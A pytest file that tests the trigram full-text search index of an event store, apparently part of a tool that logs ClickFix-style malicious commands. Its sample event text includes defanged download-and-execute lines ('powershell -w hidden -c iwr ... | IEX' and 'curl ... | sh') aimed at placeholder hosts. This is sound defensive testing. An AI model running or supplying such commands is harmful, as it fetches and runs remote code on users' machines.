"""Free-text search through the trigram index: the same answers as a scan, and much less work.

The index only narrows the candidates; each is still checked exactly. These tests make the
direct scan of a search page (SEARCH_WINDOW) small, so that both ways of answering a page run
on a few hundred events, and prove the index is really asked by emptying it behind the
store's back.
"""

from __future__ import annotations

import sqlite3
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from sqlite_utils import Database

from app.events import Event
from app.storage import (
    EventFilter,
    EventStore,
    nul_scan,
    queries,
    schema,
    search_index,
    summary,
    templates,
)
from app.storage.rows import INSERT_EVENT, event_row
from tests.app.storage.conftest import T0, Clock, make_event

NEEDLES = (
    "powershell",  # on most events: the window fills a page
    "IEX",  # case folds
    "marker-0042",  # one event, far back: only the index finds it quickly
    "rare-marker",  # a few events spread over the whole log
    "no-such-text",
    "% sure_",  # LIKE's wildcards are literal
    'say "hi"',  # the index's own query syntax is quoted away
    "ab",  # too short for trigrams: a scan
    "ärger",  # beyond ASCII: a scan with Python's casefold
    "captcha[.]example",  # the source column
    "run-dialog",  # the rules column
)


def _text(i: int) -> str:
    if i == 42:
        return "cmd /c marker-0042 & exit"
    if i % 97 == 5:
        return f"rare-marker {i} curl hxxps://x[.]test | sh"
    if i % 50 == 7:
        return f'100% sure_thing {i}; say "hi" ab ÄRGER'
    return f"powershell -w hidden -c iwr hxxps://cdn{i}[.]test/a.ps1 | IEX"


def _fill(store: EventStore, n: int) -> list[Event]:
    events = []
    for i in range(n):
        event = make_event(
            time=T0 + timedelta(minutes=i),
            level=("suspicious", "malicious")[i % 2],
            summary=f"event {i}",
            text=_text(i),
            source="hxxps://captcha[.]example/verify" if i % 3 == 0 else None,
            rules=("clickfix.run-dialog",) if i % 4 == 0 else ("other.rule",),
        )
        event_id = store.append(event)
        assert event_id is not None
        events.append(event.with_id(event_id))
    return events


def _contains(event: Event, needle: str) -> bool:
    """What a search promises: a case-insensitive substring of summary, text, source, rules
    (ASCII case folding for ASCII needles, Python's casefold beyond)."""
    fields = [
        event.summary,
        event.text or "",
        event.source or "",
        '["' + '","'.join(event.rules) + '"]',
    ]
    if needle.isascii():
        return any(needle.lower() in f.lower() for f in fields)
    return any(needle.casefold() in f.casefold() for f in fields)


def _all_pages(store: EventStore, f: EventFilter, size: int = 25) -> list[int | None]:
    seen: list[int | None] = []
    page = store.query(f, limit=size)
    while page:
        seen += [e.id for e in page]
        page = store.query(f, limit=size, before_id=page[-1].id)
    return seen


@pytest.fixture
def small_window(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """A search page scans 40 events directly, and the index trails the log by up to 64
    (so the tests' few hundred events are partly indexed, partly not yet)."""
    monkeypatch.setattr(queries, "SEARCH_WINDOW", 40)
    monkeypatch.setattr(search_index, "INDEX_BATCH", 64)
    monkeypatch.setattr(search_index, "INDEX_LAG", 64)  # appends index a batch as soon as one waits
    yield


def _catch_up(conn: sqlite3.Connection) -> None:
    conn.execute("BEGIN IMMEDIATE")
    search_index.catch_up(conn)
    conn.execute("COMMIT")


def _empty_the_index(path: Path) -> None:
    """Index every event, then empty the index: only the index could find them now."""
    conn = sqlite3.connect(path, isolation_level=None)
    _catch_up(conn)
    conn.execute("INSERT INTO events_fts (events_fts) VALUES ('delete-all')")
    conn.close()


def _index_is_consistent(path: Path) -> None:
    """FTS5's own check that the index holds exactly the rows of `events` once the events
    above its mark are indexed (raises if not: it held a row it should not, or lacked one),
    and no entry of a deleted event is left behind a delete marker: with secure-delete
    (SQLite 3.44+) FTS5 removes them itself, before that the store merges the index into one
    segment."""
    conn = sqlite3.connect(path, isolation_level=None)
    if not search_index.SECURE_DELETE:
        assert search_index.segments(conn) <= 1
    _catch_up(conn)
    conn.execute("INSERT INTO events_fts (events_fts, rank) VALUES ('integrity-check', 1)")
    conn.close()


def test_searches_answer_as_the_exact_scan_does(store: EventStore, small_window: None) -> None:
    events = _fill(store, 400)
    newest_first = sorted(events, key=lambda e: (e.time, e.id), reverse=True)
    for needle in NEEDLES:
        for levels in (None, frozenset({"malicious"})):
            f = EventFilter(search=needle, levels=levels)
            expected = [
                e.id
                for e in newest_first
                if _contains(e, needle) and (levels is None or e.level in levels)
            ]
            assert _all_pages(store, f) == expected, needle
            assert store.count(f) == len(expected), needle
            assert sum(n for _, _, n in store.counts_by_day(f)) == len(expected), needle
            oldest_first = [e.id for e in store.iter_events(f, batch=30)]
            assert oldest_first == expected[::-1], needle
    assert len([e for e in events if _contains(e, "marker-0042")]) == 1


def test_a_rare_string_is_found_through_the_index(
    store: EventStore, data_dir: Path, small_window: None
) -> None:
    events = _fill(store, 400)
    f = EventFilter(search="marker-0042")
    assert store.count(f) == 1 and len(store.query(f)) == 1
    # Behind the store's back: with the index empty, a search that needs it finds nothing,
    # while a common word, answered from the newest events directly, still fills its page.
    _empty_the_index(data_dir / "events.db")
    assert store.query(f) == [] and store.count(f) == 0
    assert len(store.query(EventFilter(search="powershell"), limit=10)) == 10
    # a word on most events is counted by one pass, not through the index
    common = EventFilter(search="powershell")
    assert store.count(common) == len([e for e in events if _contains(e, "powershell")])


def test_events_written_before_the_index_existed_are_found(
    data_dir: Path, clock: Clock, small_window: None
) -> None:
    data_dir.mkdir()
    db = Database(sqlite3.connect(data_dir / "events.db", isolation_level=None))
    schema.migrate(db, schema.MIGRATIONS[:1])  # a file of the first release
    for i in range(200):
        db.execute(
            INSERT_EVENT, event_row(make_event(time=T0 + timedelta(minutes=i), text=_text(i)))
        )
    db.close()
    with EventStore.open(data_dir, clock=clock) as store:
        assert [e.text for e in store.query(EventFilter(search="MARKER-0042"))] == [_text(42)]
        assert store.count(EventFilter(search="rare-marker")) == 3
    _index_is_consistent(data_dir / "events.db")


def test_deleted_events_leave_the_index(data_dir: Path, clock: Clock, small_window: None) -> None:
    # some of them indexed (below the mark), the newest not yet: both kinds are deleted
    with EventStore.open(data_dir, clock=clock, retention_days=30) as store:
        events = _fill(store, 300)
        rare = [e.id for e in events if _contains(e, "rare-marker")]
        assert len(rare) == 4  # events 5, 102, 199 and 296
        assert store.delete([rare[-1]]) == 1
        assert store.count(EventFilter(search="rare-marker")) == 3
        _index_is_consistent(data_dir / "events.db")

        clock.advance(days=30, minutes=100)  # the first hundred events expire
        assert store.apply_retention() == 100
        assert store.count(EventFilter(search="marker-0042")) == 0
        assert store.count(EventFilter(search="rare-marker")) == 2
        _index_is_consistent(data_dir / "events.db")

        store.delete_all()
        assert store.count(EventFilter(search="powershell")) == 0
        _index_is_consistent(data_dir / "events.db")
        assert store.append(make_event(text="after the wipe")) is not None
        assert store.count(EventFilter(search="after the wipe")) == 1


def test_the_newest_events_are_found_before_they_are_indexed(
    store: EventStore, data_dir: Path, small_window: None
) -> None:
    _fill(store, 130)  # the index covers the first 128 (two batches of 64)
    conn = sqlite3.connect(data_dir / "events.db", isolation_level=None)
    assert search_index.indexed(conn) == 128
    for i in range(3):
        store.append(make_event(time=T0 + timedelta(days=1, minutes=i), text=f"fresh-{i} x"))
    assert search_index.indexed(conn) == 128  # not yet indexed
    assert [e.text for e in store.query(EventFilter(search="FRESH-1"))] == ["fresh-1 x"]
    assert store.count(EventFilter(search="fresh-")) == 3
    assert store.count(EventFilter(search="marker-0042")) == 1  # through the index
    store.close()  # indexes the rest
    assert search_index.indexed(conn) == 133
    conn.execute("INSERT INTO events_fts (events_fts, rank) VALUES ('integrity-check', 1)")
    conn.close()


def test_a_burst_shorter_than_the_lag_never_indexes_in_an_append(
    store: EventStore, data_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Appends in a row with no idle moment leave the index (and the summary's counts) to the
    guard's idle worker until INDEX_LAG events wait; then an append indexes one batch (not
    all of them: it would wait on the whole lag), and each idle round indexes one batch.
    Searches and counts find every event meanwhile, from the log."""
    monkeypatch.setattr(search_index, "INDEX_BATCH", 64)
    monkeypatch.setattr(search_index, "INDEX_LAG", 256)
    conn = sqlite3.connect(data_dir / "events.db", isolation_level=None)
    for i in range(255):
        store.append(make_event(time=T0 + timedelta(minutes=i), text=f"burst-{i:03} x"))
    assert search_index.indexed(conn) == 0 and summary.counted(conn) == 0
    assert store.count(EventFilter(search="burst-")) == 255
    assert store.count(EventFilter(search="burst-254")) == 1
    assert store.count() == 255 and store.count(EventFilter(levels=frozenset({"malicious"})))
    store.append(make_event(time=T0 + timedelta(hours=5), text="lag x"))  # INDEX_LAG wait
    assert search_index.indexed(conn) == 64 and summary.counted(conn) == 64  # one batch
    assert templates.counted(conn) == 64
    rounds = 0
    while store.index_when_idle():
        rounds += 1
        assert search_index.indexed(conn) == 64 * (rounds + 1)  # a batch per idle round
    assert rounds == 3 and search_index.indexed(conn) == summary.counted(conn) == 256
    assert templates.counted(conn) == 256
    assert store.count(EventFilter(search="burst-")) == 255
    assert store.count(EventFilter(search="lag x")) == 1
    assert store.count() == 256
    store.append(make_event(time=T0 + timedelta(hours=6), text="after x"))
    store.close()  # indexes the rest, however few
    assert search_index.indexed(conn) == summary.counted(conn) == 257
    conn.execute("INSERT INTO events_fts (events_fts, rank) VALUES ('integrity-check', 1)")
    conn.close()


def test_an_idle_moment_indexes_half_a_batch_so_no_append_has_to(
    store: EventStore, data_dir: Path, small_window: None
) -> None:
    _fill(store, 31)  # below half a batch (64 // 2): not worth a segment of its own yet
    conn = sqlite3.connect(data_dir / "events.db", isolation_level=None)
    assert store.index_when_idle() is False
    assert search_index.indexed(conn) == 0
    store.append(make_event(time=T0 + timedelta(days=1), text="idle-word x"))
    assert store.index_when_idle() is True
    assert search_index.indexed(conn) == 32
    assert store.index_when_idle() is False  # nothing left to index
    for i in range(63):  # one short of a batch since the idle moment: no append indexed
        store.append(make_event(time=T0 + timedelta(days=2, minutes=i), text=f"burst-{i} x"))
    assert search_index.indexed(conn) == 32
    store.append(make_event(time=T0 + timedelta(days=3), text="last x"))  # a full batch
    assert search_index.indexed(conn) == 96
    assert store.count(EventFilter(search="idle-word")) == 1
    assert store.count(EventFilter(search="burst-")) == 63
    conn.execute("INSERT INTO events_fts (events_fts, rank) VALUES ('integrity-check', 1)")
    conn.close()


def test_a_file_of_the_previous_version_keeps_its_index(
    data_dir: Path, clock: Clock, small_window: None
) -> None:
    """Version 2 indexed every event as it was written: after the migration the mark covers
    them all, so nothing is indexed twice (FTS5's check would fail) and the index answers."""
    data_dir.mkdir()
    db = Database(sqlite3.connect(data_dir / "events.db", isolation_level=None))
    schema.migrate(db, schema.MIGRATIONS[:2])
    for i in range(200):
        row = event_row(make_event(time=T0 + timedelta(minutes=i), text=_text(i)))
        event_id = db.execute(INSERT_EVENT, row).lastrowid
        db.execute(
            "INSERT INTO events_fts (rowid, summary, text, source, rules) "
            "SELECT id, summary, text, source, rules FROM events WHERE id = ?",
            (event_id,),
        )
    db.close()
    with EventStore.open(data_dir, clock=clock) as store:
        assert store.count(EventFilter(search="rare-marker")) == 3
        conn = sqlite3.connect(data_dir / "events.db", isolation_level=None)
        assert search_index.indexed(conn) == 200
        conn.execute("INSERT INTO events_fts (events_fts, rank) VALUES ('integrity-check', 1)")
        assert nul_scan.pending(conn) == 200  # written before version 6: read by a scan
        store.apply_retention()  # looks at them (none holds a NUL): then the index answers
        assert nul_scan.pending(conn) == 0
        conn.close()
        _empty_the_index(data_dir / "events.db")  # the index answered, not a scan
        assert store.count(EventFilter(search="rare-marker")) == 0


def test_a_search_with_a_nul_character_scans(store: EventStore) -> None:
    """FTS5's query syntax cannot hold a NUL; the search still finds the text, by a scan."""
    assert store.append(make_event(text="00\x00 payload")) is not None
    assert store.count(EventFilter(search="00\x00")) == 1
    assert len(store.query(EventFilter(search="0\x00 p"))) == 1
